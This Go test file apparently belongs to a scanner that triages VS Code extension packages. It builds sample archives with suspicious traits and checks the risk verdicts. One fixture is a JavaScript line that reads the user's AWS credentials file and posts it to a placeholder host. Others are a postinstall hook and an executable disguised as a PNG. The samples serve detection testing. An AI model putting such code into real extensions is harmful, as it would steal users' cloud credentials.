package triage

import (
	"archive/zip"
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/vexguard/triagecore/internal/findings"
)

func buildArchive(t *testing.T, files map[string][]byte) string {
	t.Helper()
	dir := t.TempDir()
	zipPath := filepath.Join(dir, "pkg.vsix")

	f, err := os.Create(zipPath)
	if err != nil {
		t.Fatalf("create: %v", err)
	}
	defer f.Close()

	zw := zip.NewWriter(f)
	for name, content := range files {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatalf("create entry %s: %v", name, err)
		}
		if _, err := w.Write(content); err != nil {
			t.Fatalf("write entry %s: %v", name, err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	return zipPath
}

func noAIConfig() Config {
	cfg := DefaultConfig()
	cfg.AI.InferenceURL = "" // disables the AI stage for deterministic tests
	return cfg
}

// S1: clean archive, no risky signals anywhere.
func TestPipeline_S1_Clean(t *testing.T) {
	path := buildArchive(t, map[string][]byte{
		"extension/package.json": []byte(`{
			"publisher": "alice", "name": "hello", "version": "1.0.0",
			"main": "./out/ext.js",
			"activationEvents": ["onLanguage:python"]
		}`),
		"extension/out/ext.js": []byte("console.log('hi')\n"),
	})

	p := New(noAIConfig())
	result, merr := p.Run(context.Background(), path, nil)
	if merr != nil && merr.Len() > 0 {
		t.Fatalf("unexpected stage failures: %v", merr)
	}
	if result.Verdict != findings.VerdictClean {
		t.Fatalf("want CLEAN, got %s (composite %.3f)", result.Verdict, result.CompositeRisk)
	}
	if result.CompositeRisk > 0.05 {
		t.Fatalf("want composite <= 0.05, got %.3f", result.CompositeRisk)
	}
	if result.FindingCounts[findings.SeverityCritical] != 0 || result.FindingCounts[findings.SeverityHigh] != 0 {
		t.Fatalf("want 0 CRITICAL/HIGH findings, got %+v", result.FindingCounts)
	}
}

// S2: wildcard activation.
func TestPipeline_S2_WildcardActivation(t *testing.T) {
	path := buildArchive(t, map[string][]byte{
		"extension/package.json": []byte(`{
			"publisher": "alice", "name": "hello", "version": "1.0.0",
			"main": "./out/ext.js",
			"activationEvents": ["*"]
		}`),
		"extension/out/ext.js": []byte("console.log('hi')\n"),
	})

	p := New(noAIConfig())
	result, _ := p.Run(context.Background(), path, nil)

	if result.ManifestResult.RiskScore < 0.15 {
		t.Fatalf("want manifest risk >= 0.15, got %.3f", result.ManifestResult.RiskScore)
	}
	if result.FindingCounts[findings.SeverityHigh] < 1 {
		t.Fatalf("want >= 1 HIGH finding, got %+v", result.FindingCounts)
	}
}

// S3: hidden executable behind an image extension.
func TestPipeline_S3_HiddenExecutable(t *testing.T) {
	path := buildArchive(t, map[string][]byte{
		"extension/package.json": []byte(`{"publisher":"alice","name":"hello","version":"1.0.0"}`),
		"extension/assets/logo.png": append([]byte("MZ"), make([]byte, 100)...),
	})

	p := New(noAIConfig())
	result, _ := p.Run(context.Background(), path, nil)

	if result.FindingCounts[findings.SeverityCritical] < 1 {
		t.Fatalf("want >= 1 CRITICAL finding, got %+v", result.FindingCounts)
	}
	if result.Verdict == findings.VerdictClean {
		t.Fatalf("want verdict >= SUSPICIOUS, got CLEAN")
	}
}

// S4: postinstall script in a bundled dependency.
func TestPipeline_S4_PostinstallInDependency(t *testing.T) {
	path := buildArchive(t, map[string][]byte{
		"extension/package.json": []byte(`{"publisher":"alice","name":"hello","version":"1.0.0"}`),
		"extension/node_modules/innocuous/package.json": []byte(`{
			"name": "innocuous",
			"scripts": {"postinstall": "node -e \"require('net')\""}
		}`),
	})

	p := New(noAIConfig())
	result, _ := p.Run(context.Background(), path, nil)

	found := false
	for _, f := range result.AllFindings {
		if f.Category == "POSTINSTALL_SCRIPT" && f.Severity == findings.SeverityHigh {
			found = true
		}
	}
	if !found {
		t.Fatalf("expected a HIGH POSTINSTALL_SCRIPT finding, got %+v", result.AllFindings)
	}
}

// S5: credential exfiltration pattern.
func TestPipeline_S5_CredentialExfil(t *testing.T) {
	src := `const data = fetch('http://x/y', {body: fs.readFileSync(os.homedir()+'/.aws/credentials')});`
	path := buildArchive(t, map[string][]byte{
		"extension/package.json": []byte(`{"publisher":"alice","name":"hello","version":"1.0.0","main":"./out/ext.js"}`),
		"extension/out/ext.js":   []byte(src),
	})

	p := New(noAIConfig())
	result, _ := p.Run(context.Background(), path, nil)

	if result.CompositeRisk < 0.30 {
		t.Fatalf("want composite >= 0.30, got %.3f", result.CompositeRisk)
	}
	if result.FindingCounts[findings.SeverityHigh] < 1 {
		t.Fatalf("want >= 1 HIGH finding, got %+v", result.FindingCounts)
	}
}

func TestPipeline_PreAICallback_FiresBeforeAIStage(t *testing.T) {
	path := buildArchive(t, map[string][]byte{
		"extension/package.json": []byte(`{"publisher":"alice","name":"hello","version":"1.0.0"}`),
	})

	var sawAI bool
	p := New(noAIConfig())
	_, _ = p.Run(context.Background(), path, func(partial *TriageResult) {
		sawAI = partial.AIResult != nil
	})
	if sawAI {
		t.Fatal("pre-AI callback observed a populated AIResult; it must fire before the AI stage runs")
	}
}
